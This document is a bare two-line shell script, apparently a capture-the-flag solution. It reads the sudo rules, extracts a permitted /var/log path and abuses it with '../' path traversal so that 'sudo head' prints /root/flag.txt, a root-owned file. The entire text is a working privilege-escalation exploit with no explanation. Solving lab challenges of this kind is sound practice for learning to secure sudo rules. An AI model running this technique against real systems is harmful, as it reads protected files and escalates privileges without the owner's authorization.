folder=$(sudo -n -l | grep -o '/var/log/[a-z]*')
sudo -n /usr/bin/head "$folder/../../../root/flag.txt"
